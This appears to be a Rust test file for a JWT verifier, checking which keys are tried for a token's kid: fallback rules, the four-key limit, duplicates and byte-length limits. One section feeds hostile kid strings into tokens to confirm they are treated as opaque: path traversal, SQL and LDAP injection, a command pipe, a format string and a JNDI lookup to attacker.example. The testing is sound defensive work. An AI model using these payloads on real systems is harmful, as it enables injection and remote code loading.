//! Step 7 of the order of the checks: which keys are tried for a token.

use super::case::{CLAIMS, Case, File, Policy, case, quote};
use super::keys::{Jwk, jwk, only, set};
use super::signer::{bouncer_token, compact};

/// Five RSA keys of the same length. At most four keys are tried, so the last one is not.
const FIVE: [&str; 5] = ["rsa-2048-b", "rsa-2048-e3", "rsa-2048-c", "rsa-2048-d", "rsa-2048-a"];
/// Four RSA keys of other lengths.
const OTHERS: [&str; 4] = ["rsa-2049", "rsa-3072", "rsa-4096", "rsa-8192"];

pub(crate) fn file() -> File {
    let five: Vec<Jwk> = FIVE.iter().map(|name| jwk(name).kid(name)).collect();
    let same: Vec<Jwk> = FIVE.iter().map(|name| jwk(name).kid("same")).collect();
    let unnamed: Vec<Jwk> = FIVE.iter().map(|name| jwk(name)).collect();
    let (a, b) = (jwk("rsa-2048-a"), jwk("rsa-2048-b"));
    File::new(
        "key_selection",
        "RFC 7515 section 4.1.4, RFC 7517 section 4.5: the keys with the token's kid are tried, or else the keys without kid; at most four",
    )
    .key_set("unnamed", only("rsa-2048-a"))
    .key_set("a", set(&[a.clone().kid("a")]))
    .key_set("a and b", set(&[a.clone().kid("a"), b.clone().kid("b")]))
    .key_set("a and unnamed b", set(&[a.clone().kid("a"), b.clone()]))
    .key_set("five", set(&five))
    .key_set("five of one kid", set(&same))
    .key_set("five unnamed", set(&unnamed))
    .key_set("one kid", set(&[a.kid("same"), b.kid("same")]))
    .cases(by_kid())
    .cases(hostile_kids())
    .cases(several())
}

fn signed(key: &str, header: &str) -> String {
    compact(key, "RS256", header, CLAIMS)
}

fn with_kid(key: &str, kid: &str) -> String {
    signed(key, &format!(r#"{{"alg":"RS256","kid":{}}}"#, quote(kid)))
}

fn by_kid() -> Vec<Case> {
    let why = "RFC 7515 section 4.1.4: kid names the key";
    let fallback = "if no key has the token's kid, the keys without kid are tried";
    vec![
        case("a_kid_selects_the_first_key", why)
            .keys("a and b")
            .token(with_kid("rsa-2048-a", "a"))
            .kid("a")
            .ok(CLAIMS),
        case("a_kid_selects_the_second_key", why)
            .keys("a and b")
            .token(with_kid("rsa-2048-b", "b"))
            .kid("b")
            .ok(CLAIMS),
        case("a_kid_of_another_key_is_refused", why)
            .keys("a and b")
            .token(with_kid("rsa-2048-b", "a"))
            .rejected("invalid_signature"),
        case("an_unknown_kid_matches_no_key", why)
            .keys("a and b")
            .token(with_kid("rsa-2048-a", "c"))
            .rejected("no_matching_key"),
        case(
            "a_token_without_kid_is_tried_with_named_keys",
            "Bouncer's tokens have no kid, but its keys have a kid",
        )
        .keys("a and b")
        .token(bouncer_token(CLAIMS))
        .kid("a")
        .ok(CLAIMS),
        case("a_token_without_kid_of_the_second_key_is_accepted", "all keys that fit are tried")
            .keys("a and b")
            .token(signed("rsa-2048-b", r#"{"alg":"RS256"}"#))
            .kid("b")
            .ok(CLAIMS),
        case("a_token_without_kid_of_a_stranger_is_refused", "all keys that fit are tried")
            .keys("a and b")
            .token(signed("rsa-2048-e3", r#"{"alg":"RS256"}"#))
            .rejected("invalid_signature"),
        case("an_unknown_kid_falls_back_on_a_key_without_one", fallback)
            .keys("unnamed")
            .token(with_kid("rsa-2048-a", "a"))
            .ok(CLAIMS),
        case("an_unknown_kid_does_not_fall_back_on_a_named_key", fallback)
            .keys("a and unnamed b")
            .token(with_kid("rsa-2048-a", "c"))
            .rejected("invalid_signature"),
        case("an_unknown_kid_falls_back_beside_named_keys", fallback)
            .keys("a and unnamed b")
            .token(with_kid("rsa-2048-b", "c"))
            .ok(CLAIMS),
        case("a_known_kid_does_not_fall_back", fallback)
            .keys("a and unnamed b")
            .token(with_kid("rsa-2048-b", "a"))
            .rejected("invalid_signature"),
        case("a_token_without_kid_finds_the_key_without_kid", "all keys that fit are tried")
            .keys("a and unnamed b")
            .token(signed("rsa-2048-b", r#"{"alg":"RS256"}"#))
            .ok(CLAIMS),
        case(
            "a_kid_of_a_key_of_another_type_does_not_fall_back",
            "a key has the kid, so only that key is tried",
        )
        .own_keys(set(&[jwk("p256-a").kid("a"), jwk("rsa-2048-a")]))
        .token(with_kid("rsa-2048-a", "a"))
        .rejected("no_matching_key"),
        case(
            "a_kid_of_a_key_of_another_alg_does_not_fall_back",
            "a key has the kid, so only that key is tried",
        )
        .own_keys(set(&[jwk("rsa-2048-a").kid("a").alg("RS384"), jwk("rsa-2048-a")]))
        .token(with_kid("rsa-2048-a", "a"))
        .rejected("no_matching_key"),
        case("a_kid_of_a_skipped_key_falls_back", "a skipped key is not in the set")
            .own_keys(set(&[jwk("rsa-1024").kid("a"), jwk("rsa-2048-a")]))
            .token(with_kid("rsa-2048-a", "a"))
            .loads(1, &[(0, "rsa_modulus_size")])
            .ok(CLAIMS),
        case("a_kid_of_a_skipped_key_matches_no_named_key", "a skipped key is not in the set")
            .own_keys(set(&[jwk("rsa-1024").kid("a"), jwk("rsa-2048-a").kid("b")]))
            .token(with_kid("rsa-1024", "a"))
            .loads(1, &[(0, "rsa_modulus_size")])
            .rejected("no_matching_key"),
        case("a_token_without_kid_of_a_skipped_key_is_refused", "a skipped key is not in the set")
            .own_keys(set(&[jwk("rsa-1024").kid("a"), jwk("rsa-2048-a").kid("b")]))
            .token(signed("rsa-1024", r#"{"alg":"RS256"}"#))
            .rejected("invalid_signature"),
    ]
}

fn hostile_kids() -> Vec<Case> {
    let why = "RFC 8725 section 3.10: a kid is an opaque string, compared octet for octet";
    let strings = [
        ("with_a_path", "../../../../dev/null"),
        ("with_sql", "a' OR '1'='1"),
        ("with_a_sql_union", "x' UNION SELECT 'key';--"),
        ("with_a_command", "a|/usr/bin/uname"),
        ("with_an_ldap_filter", "*)(uid=*))(|(uid=*"),
        ("with_a_format", "%s%s%s%n"),
        ("with_a_template", "${jndi:ldap://attacker.example/a}"),
        ("with_a_url", "https://attacker.example/jwks.json#a"),
        ("with_a_nul", "a\0"),
        ("with_a_newline", "a\n"),
        ("with_an_escape_sequence", "\u{1b}[2J"),
    ];
    let mut cases = Vec::new();
    for (id, kid) in strings {
        cases.push(
            case(format!("a_kid_{id}_matches_no_key"), why)
                .keys("a")
                .token(with_kid("rsa-2048-a", kid))
                .rejected("no_matching_key"),
        );
        cases.push(
            case(format!("a_kid_{id}_is_a_kid_like_any_other"), why)
                .own_keys(set(&[jwk("rsa-2048-a").kid(kid)]))
                .token(with_kid("rsa-2048-a", kid))
                .kid(kid)
                .ok(CLAIMS),
        );
    }
    let unequal = [
        ("in_another_case", "Key", "key"),
        ("with_a_space_more", "key", "key "),
        ("that_is_a_prefix", "key-1", "key"),
        ("that_is_longer", "key", "key-1"),
        ("in_another_normalization", "cl\u{e9}", "cle\u{301}"),
        ("with_a_look_alike", "key", "k\u{0435}y"),
        ("with_a_zero_width_space", "key", "key\u{200b}"),
        ("that_looks_like_the_same_number", "1", "01"),
    ];
    for (id, known, kid) in unequal {
        cases.push(
            case(
                format!("a_kid_{id}_is_another_kid"),
                "RFC 7515 section 10.13: code points are compared, without normalization",
            )
            .own_keys(set(&[jwk("rsa-2048-a").kid(known)]))
            .token(with_kid("rsa-2048-a", kid))
            .rejected("no_matching_key"),
        );
    }
    let kid = |len: usize| "k".repeat(len);
    let named = |kid: &str| set(&[jwk("rsa-2048-a").kid(kid)]);
    let limit = "a kid has at most 1024 bytes";
    let empty = "an empty kid counts as absent, in a token and in a key";
    let accents = "\u{e9}".repeat(512);
    cases.extend([
        case("an_empty_kid_is_none_on_both_sides", empty)
            .own_keys(named(""))
            .token(with_kid("rsa-2048-a", ""))
            .ok(CLAIMS),
        case("an_empty_kid_of_a_token_is_none", empty)
            .keys("a")
            .token(with_kid("rsa-2048-a", ""))
            .kid("a")
            .ok(CLAIMS),
        case("an_empty_kid_of_a_token_does_not_hide_a_wrong_signature", empty)
            .keys("a")
            .token(with_kid("rsa-2048-b", ""))
            .rejected("invalid_signature"),
        case("an_unknown_kid_falls_back_on_a_key_with_an_empty_one", empty)
            .own_keys(named(""))
            .token(with_kid("rsa-2048-a", "x"))
            .ok(CLAIMS),
        case("a_null_kid_of_a_key_is_none", "null counts as absent")
            .own_keys(set(&[jwk("rsa-2048-a").set("kid", "null")]))
            .token(with_kid("rsa-2048-a", "x"))
            .ok(CLAIMS),
        case("an_empty_kid_falls_back_on_a_key_without_one", empty)
            .keys("unnamed")
            .token(with_kid("rsa-2048-a", ""))
            .ok(CLAIMS),
        case("an_escaped_kid_is_its_unescaped_self", "RFC 8259 section 8.3: strings are compared unescaped")
            .keys("a")
            .token(signed("rsa-2048-a", r#"{"alg":"RS256","kid":"\u0061"}"#))
            .kid("a")
            .ok(CLAIMS),
        case(
            "an_escaped_kid_of_a_key_is_its_unescaped_self",
            "RFC 8259 section 8.3: strings are compared unescaped",
        )
        .own_keys(set(&[jwk("rsa-2048-a").set("kid", r#""\u0061""#)]))
        .token(with_kid("rsa-2048-a", "a"))
        .kid("a")
        .ok(CLAIMS),
        case("a_kid_of_1024_bytes_is_accepted", limit)
            .own_keys(named(&kid(1024)))
            .token(with_kid("rsa-2048-a", &kid(1024)))
            .kid(&kid(1024))
            .ok(CLAIMS),
        case("a_kid_of_1025_bytes_is_malformed", limit)
            .keys("unnamed")
            .token(with_kid("rsa-2048-a", &kid(1025)))
            .rejected_naming("malformed_header", "kid"),
        case("a_kid_of_512_letters_of_two_bytes_is_accepted", limit)
            .own_keys(named(&accents))
            .token(with_kid("rsa-2048-a", &accents))
            .kid(&accents)
            .ok(CLAIMS),
        case(
            "a_kid_of_513_letters_of_two_bytes_is_malformed",
            "a kid has at most 1024 bytes; bytes are counted, not characters",
        )
        .keys("unnamed")
        .token(with_kid("rsa-2048-a", &"\u{e9}".repeat(513)))
        .rejected_naming("malformed_header", "kid"),
        case("a_kid_of_1024_bytes_in_escapes_is_accepted", "the bytes are counted after unescaping")
            .keys("unnamed")
            .token(signed("rsa-2048-a", &format!(r#"{{"alg":"RS256","kid":"{}"}}"#, r"\u006b".repeat(1024))))
            .ok(CLAIMS),
    ]);
    cases
}

fn several() -> Vec<Case> {
    let four = "the first four keys that fit are tried, in document order";
    let lengths = "a key whose signatures are not as long as the token's is not tried, and does not count as one of the four";
    let behind_others = |keys: &[&str]| {
        let keys = OTHERS.iter().chain(keys).map(|name| jwk(name).kid(name));
        set(&keys.collect::<Vec<_>>())
    };
    let identical = "identical keys count once";
    let duplicate = "RFC 7517 section 4.5: all keys with the kid are tried";
    let plain = |key: &str| signed(key, r#"{"alg":"RS256"}"#);
    let a = || jwk("rsa-2048-a");
    let first = |key: Jwk| {
        let mut keys = vec![key];
        keys.extend(FIVE[..3].iter().map(|name| jwk(name).kid(name)));
        keys.push(a().kid("last"));
        set(&keys)
    };
    vec![
        case("the_first_of_five_keys_is_tried", four)
            .keys("five")
            .token(plain(FIVE[0]))
            .kid(FIVE[0])
            .ok(CLAIMS),
        case("the_fourth_of_five_keys_is_tried", four)
            .keys("five")
            .token(plain(FIVE[3]))
            .kid(FIVE[3])
            .ok(CLAIMS),
        case("the_fifth_of_five_keys_is_not_tried", four)
            .keys("five")
            .token(plain(FIVE[4]))
            .rejected("invalid_signature"),
        case("a_key_behind_four_of_other_lengths_is_tried", lengths)
            .own_keys(behind_others(&["rsa-2048-a"]))
            .token(plain("rsa-2048-a"))
            .kid("rsa-2048-a")
            .ok(CLAIMS),
        case("the_fourth_of_its_length_behind_four_others_is_tried", lengths)
            .own_keys(behind_others(&["rsa-2048-b", "rsa-2048-e3", "rsa-2048-c", "rsa-2048-a"]))
            .token(plain("rsa-2048-a"))
            .kid("rsa-2048-a")
            .ok(CLAIMS),
        case("the_fifth_of_its_length_behind_four_others_is_not_tried", lengths)
            .own_keys(behind_others(&FIVE))
            .token(plain("rsa-2048-a"))
            .rejected("invalid_signature"),
        case("a_key_of_another_length_behind_five_is_tried", lengths)
            .own_keys(set(&FIVE
                .iter()
                .chain(&["rsa-3072"])
                .map(|name| jwk(name).kid(name))
                .collect::<Vec<_>>()))
            .token(plain("rsa-3072"))
            .kid("rsa-3072")
            .ok(CLAIMS),
        case("keys_of_other_lengths_alone_verify_nothing", lengths)
            .own_keys(behind_others(&[]))
            .token(plain("rsa-2048-a"))
            .rejected("invalid_signature"),
        case("a_short_signature_is_of_no_key", lengths)
            .own_keys(behind_others(&["rsa-2048-a"]))
            .token(
                plain("rsa-2048-a")
                    .rsplit_once('.')
                    .map(|(input, _)| format!("{input}.AAAA"))
                    .expect("a token"),
            )
            .rejected("invalid_signature"),
        case("the_fifth_of_five_keys_is_found_by_its_kid", four)
            .keys("five")
            .token(with_kid(FIVE[4], FIVE[4]))
            .kid(FIVE[4])
            .ok(CLAIMS),
        case("the_fourth_of_five_keys_of_one_kid_is_tried", four)
            .keys("five of one kid")
            .token(with_kid(FIVE[3], "same"))
            .kid("same")
            .ok(CLAIMS),
        case("the_fifth_of_five_keys_of_one_kid_is_not_tried", four)
            .keys("five of one kid")
            .token(with_kid(FIVE[4], "same"))
            .rejected("invalid_signature"),
        case("the_fourth_of_five_keys_without_kid_is_tried", four)
            .keys("five unnamed")
            .token(with_kid(FIVE[3], "x"))
            .ok(CLAIMS),
        case("the_fifth_of_five_keys_without_kid_is_not_tried", four)
            .keys("five unnamed")
            .token(with_kid(FIVE[4], "x"))
            .rejected("invalid_signature"),
        case("a_key_of_another_type_is_not_one_of_the_four", "only keys that fit count as one of the four")
            .own_keys(first(jwk("p256-a")))
            .token(plain("rsa-2048-a"))
            .kid("last")
            .ok(CLAIMS),
        case("a_key_of_another_alg_is_not_one_of_the_four", "only keys that fit count as one of the four")
            .own_keys(first(jwk("rsa-4096").alg("PS256")))
            .token(plain("rsa-2048-a"))
            .kid("last")
            .ok(CLAIMS),
        case("a_skipped_key_is_not_one_of_the_four", "only usable keys count as one of the four")
            .own_keys(first(jwk("rsa-4096").text("use", "enc")))
            .token(plain("rsa-2048-a"))
            .kid("last")
            .ok(CLAIMS),
        case("five_copies_of_a_key_are_one", identical)
            .own_keys(set(&[
                jwk("rsa-2048-b"),
                jwk("rsa-2048-b"),
                jwk("rsa-2048-b"),
                jwk("rsa-2048-b"),
                jwk("rsa-2048-b"),
                a().kid("last"),
            ]))
            .token(plain("rsa-2048-a"))
            .kid("last")
            .ok(CLAIMS),
        case("copies_of_a_key_under_other_kids_are_one", identical)
            .own_keys(set(&[
                jwk("rsa-2048-b").kid("1"),
                jwk("rsa-2048-b").kid("2"),
                jwk("rsa-2048-b").kid("3"),
                jwk("rsa-2048-b").kid("4"),
                a().kid("last"),
            ]))
            .token(plain("rsa-2048-a"))
            .kid("last")
            .ok(CLAIMS),
        case("the_first_of_two_copies_is_the_one_that_verified", identical)
            .own_keys(set(&[a().kid("first"), a().kid("second")]))
            .token(plain("rsa-2048-a"))
            .kid("first")
            .ok(CLAIMS),
        case("a_copy_is_found_by_its_own_kid", identical)
            .own_keys(set(&[a().kid("first"), a().kid("second")]))
            .token(with_kid("rsa-2048-a", "second"))
            .kid("second")
            .ok(CLAIMS),
        case("the_first_key_of_a_duplicate_kid_is_tried", duplicate)
            .keys("one kid")
            .token(with_kid("rsa-2048-a", "same"))
            .kid("same")
            .ok(CLAIMS),
        case("the_second_key_of_a_duplicate_kid_is_tried", duplicate)
            .keys("one kid")
            .token(with_kid("rsa-2048-b", "same"))
            .kid("same")
            .ok(CLAIMS),
        case("a_stranger_under_a_duplicate_kid_is_refused", duplicate)
            .keys("one kid")
            .token(with_kid("rsa-2048-e3", "same"))
            .rejected("invalid_signature"),
        case(
            "one_kid_of_two_types_serves_rsa",
            "RFC 7517 section 4.5: keys of different types may share a kid",
        )
        .own_keys(set(&[jwk("p256-a").kid("same"), a().kid("same")]))
        .token(with_kid("rsa-2048-a", "same"))
        .kid("same")
        .ok(CLAIMS),
        case(
            "one_kid_of_two_types_serves_ecdsa",
            "RFC 7517 section 4.5: keys of different types may share a kid",
        )
        .own_keys(set(&[a().kid("same"), jwk("p256-a").kid("same")]))
        .policy(Policy::dcos().algorithms(&["ES256"]))
        .token(compact("p256-a", "ES256", r#"{"alg":"ES256","kid":"same"}"#, CLAIMS))
        .kid("same")
        .alg("ES256")
        .ok(CLAIMS),
        case(
            "one_modulus_under_two_algs_serves_each",
            "keys with the same numbers but different alg are different keys",
        )
        .own_keys(set(&[a().kid("ps").alg("PS256"), a().kid("rs").alg("RS256")]))
        .token(plain("rsa-2048-a"))
        .kid("rs")
        .ok(CLAIMS),
    ]
}
